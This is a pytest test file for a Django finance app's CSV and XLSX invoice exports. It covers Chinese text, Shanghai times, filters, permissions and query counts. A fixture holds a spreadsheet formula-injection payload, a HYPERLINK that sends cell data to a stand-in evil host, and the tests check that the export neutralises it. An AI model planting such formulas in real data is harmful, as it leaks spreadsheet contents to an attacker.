"""The to-invoice list as CSV and XLSX: the list's rows with its filters, never a gift order,
Chinese intact (CSV with a BOM for Excel), no formula a spreadsheet would run, times in
Asia/Shanghai, a constant number of queries, finance's permission."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime
from decimal import Decimal

import openpyxl
import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse

from finance.models import InvoiceRequest
from finance.selectors import invoice_list_for_finance
from finance.services import invoice_details_update, invoice_mark_issued, invoice_mark_requested
from tests.finance.conftest import snapshot

pytestmark = pytest.mark.django_db

CSV_URL = reverse("finance:invoice_export_csv")
XLSX_URL = reverse("finance:invoice_export_xlsx")
HEADER = [
    "Order number",
    "Channel",
    "External order id",
    "Amount to invoice",
    "Goods, gift lines excluded",
    "Gift lines (no revenue)",
    "Currency",
    "Invoice status",
    "Added at (Asia/Shanghai)",
    "Requested at (Asia/Shanghai)",
    "Issued at (Asia/Shanghai)",
    "Invoice number",
    "Invoice title",
    "Buyer tax id",
]
TITLE = "杭州示例科技有限公司"
EVIL_TITLE = '=HYPERLINK("http://evil.example/?"&A1,"点这里")'


def body(response) -> bytes:
    if response.streaming:
        return b"".join(response.streaming_content)
    return b"".join(response) if hasattr(response, "file_to_stream") else response.content


def csv_rows(response) -> list[list[str]]:
    raw = body(response)
    assert raw.startswith(b"\xef\xbb\xbf"), "Excel needs the UTF-8 byte-order mark"
    return list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))


def xlsx_sheet(response):
    workbook = openpyxl.load_workbook(io.BytesIO(body(response)))
    return workbook.worksheets[0]


@pytest.fixture
def rows(listed, make_order, users):
    """An issued row with a Chinese title, a pending one with formula-like text, a gift's row."""
    fin = users["fin1"]
    issued = listed(amount="1299.00", channel="taobao", external_id="TB-20260128-0001")
    invoice_details_update(
        invoice_id=issued.pk, actor=fin, expected_version=1, buyer_title=TITLE, buyer_tax_id="91330100MA2H3X4Y5Z"
    )
    invoice_mark_requested(invoice_id=issued.pk, actor=fin, expected_version=2)
    invoice_mark_issued(invoice_id=issued.pk, actor=fin, invoice_number="24312000000012345678", expected_version=3)
    pending = listed(amount="88.00", channel="amazon", external_id="-2+3")
    invoice_details_update(
        invoice_id=pending.pk, actor=fin, expected_version=1, buyer_title=EVIL_TITLE, buyer_tax_id=""
    )
    # A gift's row cannot come from the reaction; written directly, it must still never show.
    gift = make_order("packed", main_order=pending.order, amount="0.00", external_id="GIFT-1")
    InvoiceRequest.objects.create(order=gift, amount=Decimal("0.00"), currency="CNY")
    return {
        "issued": InvoiceRequest.objects.get(pk=issued.pk),
        "pending": InvoiceRequest.objects.get(pk=pending.pk),
        "gift": gift,
    }


def test_csv_has_the_rows_with_a_bom_without_gifts_or_formulas(login, rows):
    response = login("fin1").get(CSV_URL, {"status": "all"})
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith('attachment; filename="to-invoice-')
    assert response.streaming
    header, *lines = csv_rows(response)
    assert header == HEADER
    issued, pending = rows["issued"], rows["pending"]
    assert [line[0] for line in lines] == [issued.order.number, pending.order.number]
    assert rows["gift"].number not in str(lines) and "GIFT-1" not in str(lines)

    first = dict(zip(HEADER, lines[0], strict=True))
    assert first["Channel"] == "Taobao/Tmall" and first["External order id"] == "TB-20260128-0001"
    assert (first["Amount to invoice"], first["Currency"], first["Invoice status"]) == ("1299.00", "CNY", "Issued")
    assert first["Invoice number"] == "24312000000012345678"
    assert first["Invoice title"] == TITLE and first["Buyer tax id"] == "91330100MA2H3X4Y5Z"
    assert first["Issued at (Asia/Shanghai)"] and first["Requested at (Asia/Shanghai)"]

    second = dict(zip(HEADER, lines[1], strict=True))
    assert second["Invoice title"] == "'" + EVIL_TITLE
    assert second["External order id"] == "'-2+3"
    assert second["Invoice status"] == "To invoice" and second["Issued at (Asia/Shanghai)"] == ""


def test_csv_in_chinese_keeps_chinese(login, rows):
    client = login("fin1")
    response = client.get(CSV_URL, {"status": "issued"}, HTTP_ACCEPT_LANGUAGE="zh-hans")
    _header, line = csv_rows(response)
    assert TITLE in line
    assert line[0] == rows["issued"].order.number


def test_times_are_shanghai_times_and_date_filters_are_shanghai_days(login, rows):
    pending = rows["pending"]
    # 16:30 UTC on the 28th is 00:30 on the 29th in Shanghai.
    InvoiceRequest.objects.filter(pk=pending.pk).update(added_at=datetime(2026, 1, 28, 16, 30, tzinfo=UTC))
    client = login("fin1")
    header, line = csv_rows(client.get(CSV_URL, {"added_from": "2026-01-29", "added_to": "2026-01-29"}))
    assert line[0] == pending.order.number and line[HEADER.index("Added at (Asia/Shanghai)")] == "2026-01-29 00:30"
    assert csv_rows(client.get(CSV_URL, {"added_to": "2026-01-28"})) == [header]


def test_filters_are_the_lists_filters(login, rows):
    client = login("fin1")
    issued, pending = rows["issued"], rows["pending"]

    def numbers(**params):
        return [line[0] for line in csv_rows(client.get(CSV_URL, params))[1:]]

    assert numbers() == [pending.order.number]  # opens on the open rows, as the list does
    assert numbers(status="issued") == [issued.order.number]
    assert numbers(status="all", channel="amazon") == [pending.order.number]
    assert numbers(status="all", currency="usd") == []
    assert numbers(status="all", q=issued.order.number.lower()) == [issued.order.number]
    assert numbers(status="all", q="24312000000012345678") == [issued.order.number]
    assert numbers(status="all", q="GIFT-1") == []
    for params in ({"status": "all"}, {"status": "issued"}, {"channel": "amazon"}):
        assert numbers(**params) == [
            i.order.number
            for i in invoice_list_for_finance(status=params.get("status", "open"), channel=params.get("channel", ""))
        ]


@pytest.mark.parametrize(
    ("params", "words"),
    [
        ({"status": "paid"}, "Unknown status"),
        ({"channel": "ebay"}, "Unknown channel"),
        ({"currency": "RMB1"}, "not a currency code"),
        ({"added_from": "2026-02-30"}, "not a date"),
        ({"added_from": "2026-02-02", "added_to": "2026-02-01"}, "reversed"),
    ],
)
def test_bad_filters_get_a_clear_400(login, rows, params, words):
    before = snapshot(rows["issued"], rows["pending"])
    for url in (CSV_URL, XLSX_URL):
        response = login("fin1").get(url, params)
        assert response.status_code == 400
        assert words in response.content.decode()
    assert snapshot(rows["issued"], rows["pending"]) == before


def test_xlsx_has_the_rows_as_text_and_numbers(login, rows):
    response = login("fin1").get(XLSX_URL, {"status": "all"})
    assert response.status_code == 200
    assert response["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    assert "to-invoice-" in response["Content-Disposition"] and ".xlsx" in response["Content-Disposition"]
    sheet = xlsx_sheet(response)
    values = [[cell.value for cell in row] for row in sheet.iter_rows()]
    assert values[0] == HEADER
    issued, pending = rows["issued"], rows["pending"]
    assert [row[0] for row in values[1:]] == [issued.order.number, pending.order.number]
    assert "GIFT-1" not in str(values)

    first = dict(zip(HEADER, values[1], strict=True))
    assert first["Amount to invoice"] == 1299 and first["Invoice title"] == TITLE
    assert isinstance(first["Issued at (Asia/Shanghai)"], datetime)
    assert first["Issued at (Asia/Shanghai)"].tzinfo is None  # local wall time, as Excel shows it
    cells = {HEADER[i]: cell for i, cell in enumerate(next(sheet.iter_rows(min_row=3, max_row=3)))}
    assert cells["Invoice title"].data_type == "s" and cells["Invoice title"].value == "'" + EVIL_TITLE
    assert cells["External order id"].data_type == "s" and cells["External order id"].value == "'-2+3"
    assert cells["Requested at (Asia/Shanghai)"].value is None


@pytest.mark.parametrize(
    ("username", "expected"), [("fin1", 200), ("ops1", 200), ("tech1", 200), ("cs1", 403), ("wh1", 403)]
)
def test_export_needs_finance_view_permission(login, rows, username, expected):
    client = login(username)
    for url in (CSV_URL, XLSX_URL):
        assert client.get(url).status_code == expected


def test_anonymous_is_sent_to_login(client, rows):
    for url in (CSV_URL, XLSX_URL):
        response = client.get(url)
        assert response.status_code == 302 and response["Location"].startswith(reverse("admin:login"))
    assert client.post(CSV_URL).status_code in (302, 405)


def _export_queries(client, url, params) -> int:
    client.get(url, params)  # warm the per-process caches (content types, translations)
    with CaptureQueriesContext(connection) as queries:
        response = client.get(url, params)
        assert response.status_code == 200
        body(response)  # the CSV is read from the database while it streams
    return len(queries)


def test_exports_and_the_selector_run_a_constant_number_of_queries(login, listed, users):
    client = login("fin1")
    listed()
    small = {url: _export_queries(client, url, {"status": "all"}) for url in (CSV_URL, XLSX_URL)}
    for index in range(12):
        invoice = listed(amount="99.00")
        if index % 2:
            invoice_mark_requested(invoice_id=invoice.pk, actor=users["fin1"], expected_version=1)
    big = {url: _export_queries(client, url, {"status": "all"}) for url in (CSV_URL, XLSX_URL)}
    assert big == small
    with CaptureQueriesContext(connection) as queries:
        rows = list(invoice_list_for_finance(status="all"))
        [(r.order.number, r.requested_by, r.issued_by) for r in rows]
    assert len(rows) == 13 and len(queries) == 1


def test_the_goods_figure_leaves_gift_lines_out(login, users):
    from orders.services.orders import order_create

    lines = [
        {"sku": "TEA", "quantity": 2, "unit_price": "50.00", "discount": "5.00"},
        {"sku": "PROMO", "quantity": 1, "unit_price": "20.00", "discount": "20.00"},  # free: a gift line
        {"sku": "BAG", "quantity": 1, "unit_price": "12.00", "is_gift": True},  # the channel says gift
    ]
    order = order_create(actor=None, channel="taobao", amount="107.00", lines=lines)
    InvoiceRequest.objects.create(order=order, amount=order.amount, currency="CNY")
    header, *lines_out = csv_rows(login("fin1").get(CSV_URL, {"status": "all"}))
    row = dict(zip(header, lines_out[0], strict=True))
    # The bag the channel priced at 12.00 is a gift: no revenue, not invoiced, but listed.
    assert (row["Amount to invoice"], row["Goods, gift lines excluded"]) == ("95.00", "95.00")
    assert row["Gift lines (no revenue)"] == "PROMO × 1; BAG × 1"
